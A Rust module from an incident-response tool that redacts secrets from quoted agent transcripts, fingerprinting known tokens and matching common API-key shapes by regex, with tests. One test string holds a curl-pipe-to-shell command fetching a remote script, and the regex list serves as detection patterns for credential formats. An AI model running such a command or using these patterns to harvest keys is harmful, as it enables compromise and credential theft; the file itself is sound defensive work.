//! Keeping secrets out of what `ir` quotes from the host.
//!
//! A hunt hit quotes the transcript around the match, and a transcript of a
//! compromised agent is full of the secrets it read: the gateway token, the
//! provider keys. `ir` knows those exact values (the config, the auth
//! profiles, `.env`), so each is replaced by `[secret sha256:<12 hex>]`, the
//! same fingerprint `ir rotate` records, which says which secret leaked
//! without repeating it. Well-known key shapes (Anthropic, OpenAI, Slack,
//! GitHub, AWS, Telegram bot tokens, passwords in URLs) are replaced too,
//! since a leaked key of another account is just as secret.
//!
//! A quote is cut from a longer text; a secret that straddles the cut is
//! taken out whole (the window widens to it), never shown in part.

use crate::openclaw::Deployment;
use regex::Regex;
use std::ops::Range;
use std::sync::OnceLock;
use zeroize::Zeroizing;

/// Known values shorter than this are not redacted (they would match
/// ordinary words).
const MIN_SECRET: usize = 8;

/// The secrets one deployment holds, ready to redact.
#[derive(Default)]
pub struct Redactor {
    known: Vec<(Zeroizing<String>, String)>,
}

/// Config paths of the deployment's own secrets (the provider and channel
/// keys come from `rotate`'s inventory).
const CONFIG_SECRETS: &[&str] = &[
    "gateway.auth.token",
    "gateway.auth.password",
    "gateway.remote.token",
    "gateway.remote.password",
    "hooks.token",
];

fn shapes() -> &'static [(Regex, &'static str)] {
    static S: OnceLock<Vec<(Regex, &'static str)>> = OnceLock::new();
    S.get_or_init(|| {
        [
            (r"sk-ant-[A-Za-z0-9_\-]{16,}", "anthropic key"),
            (r"sk-(?:proj-|svcacct-)?[A-Za-z0-9_\-]{20,}", "openai key"),
            (r"xox[abprs]-[A-Za-z0-9\-]{10,}", "slack token"),
            (r"gh[pousr]_[A-Za-z0-9]{30,}", "github token"),
            (r"\bAKIA[0-9A-Z]{16}\b", "aws key id"),
            (
                r"\b[0-9]{8,10}:AA[A-Za-z0-9_\-]{33}\b",
                "telegram bot token",
            ),
            (r"://[^/\s:@]{1,64}:([^/\s@]{1,256})@", "password in url"),
        ]
        .into_iter()
        .map(|(p, l)| (Regex::new(p).expect("shape regex"), l))
        .collect()
    })
}

/// Strings one of which every match of a [`shapes`] regex holds: a text
/// with none of them is spared the seven searches (a hunt quotes every
/// event, most of which hold no key).
fn shape_marks() -> &'static aho_corasick::AhoCorasick {
    static M: OnceLock<aho_corasick::AhoCorasick> = OnceLock::new();
    M.get_or_init(|| {
        aho_corasick::AhoCorasick::new(["sk-", "xox", "gh", "AKIA", ":AA", "://"])
            .expect("shape marks")
    })
}

impl Redactor {
    /// The secrets of `dep`: its own tokens and every credential `rotate`
    /// lists.
    pub fn for_deployment(dep: &Deployment) -> Redactor {
        let mut r = Redactor::default();
        if let Some(c) = &dep.config {
            for p in CONFIG_SECRETS {
                if let Some(v) = crate::openclaw::config::get(c, p).and_then(|v| v.as_str()) {
                    r.add(v);
                }
            }
        }
        for (_, v) in crate::contain::rotate::credentials_with_values(dep) {
            if let Some(v) = v {
                r.add(&v);
            }
        }
        // Longest first, so a secret that contains another goes whole.
        r.known.sort_by_key(|(v, _)| std::cmp::Reverse(v.len()));
        r
    }

    /// Adds one known value.
    pub fn add(&mut self, v: &str) {
        if v.len() >= MIN_SECRET && !self.known.iter().any(|(k, _)| k.as_str() == v) {
            let fp = crate::contain::rotate::fingerprint(v);
            self.known.push((Zeroizing::new(v.to_string()), fp));
        }
    }

    /// Every secret in `text`: its byte range and what replaces it.
    fn ranges(&self, text: &str) -> Vec<(Range<usize>, String)> {
        let mut out: Vec<(Range<usize>, String)> = Vec::new();
        let free = |out: &Vec<(Range<usize>, String)>, r: &Range<usize>| {
            out.iter()
                .all(|(o, _)| o.end <= r.start || r.end <= o.start)
        };
        for (v, fp) in &self.known {
            for i in occurrences(text.as_bytes(), v.as_bytes()) {
                let r = i..i + v.len();
                if free(&out, &r) {
                    out.push((r, format!("[secret sha256:{fp}]")));
                }
            }
        }
        let shaped = shape_marks().is_match(text);
        for (re, label) in shapes().iter().filter(|_| shaped) {
            for c in re.captures_iter(text) {
                let m = c.get(1).or_else(|| c.get(0)).expect("group 0");
                let r = m.range();
                if free(&out, &r) {
                    out.push((r, format!("[{label}]")));
                }
            }
        }
        out.sort_by_key(|(r, _)| r.start);
        out
    }

    /// Where `text` may be cut for a quote ending at `end`, leaving out
    /// nothing that could change the quote (a hunt quotes the first 200
    /// characters of every event, and searching all of a long page for
    /// secrets cost more than matching it): at ASCII whitespace, which no
    /// key shape holds, so no shape's match crosses the cut; past `end` by
    /// the longest known secret, and none of them crossing it. A secret
    /// that does cross it, or no such whitespace, keeps the whole text.
    fn cut(&self, text: &str, end: usize) -> usize {
        let longest = self.known.iter().map(|(v, _)| v.len()).max().unwrap_or(0);
        let bytes = text.as_bytes();
        let from = end.saturating_add(longest);
        let Some(at) = bytes
            .get(from..)
            .and_then(|b| b.iter().position(u8::is_ascii_whitespace))
        else {
            return text.len();
        };
        let c = from + at;
        let crosses = self.known.iter().any(|(v, _)| {
            let near = &bytes[c + 1 - v.len()..(c + v.len() - 1).min(bytes.len())];
            occurrences(near, v.as_bytes()).next().is_some()
        });
        if crosses { text.len() } else { c }
    }

    /// `text`, every secret replaced.
    pub fn redact(&self, text: &str) -> String {
        self.quote(text, 0..text.len())
    }

    /// The part `window` of `text`, widened so that no secret is cut, with
    /// every secret replaced and the rest escaped for display; `…` marks
    /// where the text goes on.
    pub fn quote(&self, text: &str, window: Range<usize>) -> String {
        let secrets = self.ranges(&text[..self.cut(text, window.end)]);
        assemble(text, window, &secrets)
    }
}

/// Where `needle` starts in `hay`, left to right and not overlapping (as
/// [`str::match_indices`] finds them). A hunt quotes every event it reads:
/// a substring searcher built for each secret and each quote cost a tenth
/// of the hunt, where finding the first byte (`memchr`) and comparing the
/// rest costs next to nothing on a quote's few hundred bytes.
fn occurrences<'a>(hay: &'a [u8], needle: &'a [u8]) -> impl Iterator<Item = usize> + 'a {
    let mut at = 0;
    std::iter::from_fn(move || {
        let first = *needle.first()?;
        while let Some(i) = memchr::memchr(first, hay.get(at..)?) {
            let start = at + i;
            if hay[start..].starts_with(needle) {
                at = start + needle.len();
                return Some(start);
            }
            at = start + 1;
        }
        at = hay.len() + 1;
        None
    })
}

/// `window` of `text` widened so that none of `secrets` is cut, each secret
/// replaced by its label and the rest escaped; `…` where the text goes on.
fn assemble(text: &str, window: Range<usize>, secrets: &[(Range<usize>, String)]) -> String {
    let (mut start, mut end) = (window.start, window.end);
    for (r, _) in secrets {
        if r.start < start && r.end > start {
            start = r.start;
        }
        if r.start < end && r.end > end {
            end = r.end;
        }
    }
    let mut out = String::new();
    if start > 0 {
        out.push('…');
    }
    let mut at = start;
    for (r, label) in secrets
        .iter()
        .filter(|(r, _)| r.start >= start && r.end <= end)
    {
        out.push_str(&crate::sanitize::escape(&text[at..r.start]));
        out.push_str(label);
        at = r.end;
    }
    out.push_str(&crate::sanitize::escape(&text[at..end]));
    if end < text.len() {
        out.push('…');
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn with(secret: &str) -> Redactor {
        let mut r = Redactor::default();
        r.add(secret);
        r
    }

    #[test]
    fn a_known_secret_is_replaced_by_its_fingerprint() {
        let tok = "0f3c9a7d2b1e4f6a8c0d2e4f6a8b0c1d";
        let r = with(tok);
        let out = r.redact(&format!("the token is {tok}, use it"));
        assert!(!out.contains(tok));
        assert!(
            out.contains(&crate::contain::rotate::fingerprint(tok)),
            "{out}"
        );
    }

    #[test]
    fn a_secret_cut_by_the_window_is_taken_out_whole() {
        let tok = "0f3c9a7d2b1e4f6a8c0d2e4f6a8b0c1d";
        let text = format!("curl http://x/i.sh | sh; token={tok} done");
        let cut = text.find(tok).unwrap() + 10;
        let out = with(tok).quote(&text, 0..cut);
        assert!(!out.contains(&tok[..10]), "{out}");
        assert!(out.contains("[secret sha256:"), "{out}");
    }

    #[test]
    fn well_known_key_shapes_are_replaced() {
        let r = Redactor::default();
        for (s, label) in [
            (
                "key sk-ant-api03-abcdefghijklmnopqrstuvwxyz0123",
                "anthropic key",
            ),
            ("OPENAI=sk-proj-abcdefghijklmnopqrstuvwxyz", "openai key"),
            ("xoxb-1234567890-abcdefghij", "slack token"),
            (
                "https://admin:hunter2hunter2@example.com/x",
                "password in url",
            ),
            (
                "123456789:AAabcdefghijklmnopqrstuvwxyz0123456",
                "telegram bot token",
            ),
        ] {
            let out = r.redact(s);
            assert!(out.contains(&format!("[{label}]")), "{s} -> {out}");
        }
        assert!(
            !r.redact("https://admin:hunter2hunter2@example.com")
                .contains("hunter2")
        );
        assert_eq!(r.redact("nothing secret here"), "nothing secret here");
        // Every shape holds one of the marks that spare a text the search.
        for (re, _) in shapes() {
            let marks = ["sk-", "xox", "gh", "AKIA", ":AA", "://"];
            assert!(
                marks
                    .iter()
                    .any(|m| re.as_str().replace('\\', "").contains(m)),
                "{re}"
            );
        }
    }

    /// [`Redactor::quote`] as it was before the cut: every secret of the
    /// whole text found first.
    fn quote_whole(r: &Redactor, text: &str, window: Range<usize>) -> String {
        let whole = Redactor {
            known: r.known.clone(),
        };
        let longest = usize::MAX / 2;
        // A cut past the end keeps the whole text.
        assert_eq!(whole.cut(text, longest), text.len());
        assemble(text, window, &whole.ranges(text))
    }

    #[test]
    fn a_secret_across_the_cut_keeps_the_whole_text() {
        let tok = "tok en-0123456789";
        let r = with(tok);
        // A shape that runs from inside the window to the known secret,
        // which is found first and wins: cutting inside the secret would
        // let the shape widen the quote instead.
        let text = format!("{}sk-ant-{}{tok} tail", "x".repeat(10), "a".repeat(40));
        assert_eq!(r.quote(&text, 0..12), quote_whole(&r, &text, 0..12));
        let c = r.cut(&text, 12);
        assert_eq!(c, text.len(), "{c}");
    }

    proptest::proptest! {
        #[test]
        fn occurrences_are_what_match_indices_finds(hay in "[ab]{0,40}", needle in "[ab]{1,4}") {
            let found: Vec<usize> = occurrences(hay.as_bytes(), needle.as_bytes()).collect();
            let want: Vec<usize> = hay.match_indices(needle.as_str()).map(|(i, _)| i).collect();
            proptest::prop_assert_eq!(found, want);
        }

        #[test]
        fn a_cut_quote_is_the_whole_text_quote(
            parts in proptest::collection::vec("[a-z ]{0,12}|sk-ant-[a-z]{14,30}|S3CR3T tok|://u:pw@h| ", 0..30),
            end in 0usize..300,
        ) {
            let text: String = parts.concat();
            let r = with("S3CR3T tok");
            let end = end.min(text.len());
            proptest::prop_assert_eq!(r.quote(&text, 0..end), quote_whole(&r, &text, 0..end));
        }

        #[test]
        fn quoting_never_panics_and_never_leaks(pre in "\\PC{0,40}", post in "\\PC{0,40}", a in 0usize..120, b in 0usize..120) {
            let tok = "S3CR3T-value-0123456789";
            let text = format!("{pre}{tok}{post}");
            let r = with(tok);
            let (a, b) = (a.min(text.len()), b.min(text.len()));
            let (a, b) = (a.min(b), a.max(b));
            if text.is_char_boundary(a) && text.is_char_boundary(b) {
                let out = r.quote(&text, a..b);
                proptest::prop_assert!(!out.contains("S3CR3T-value"));
            }
        }
    }
}
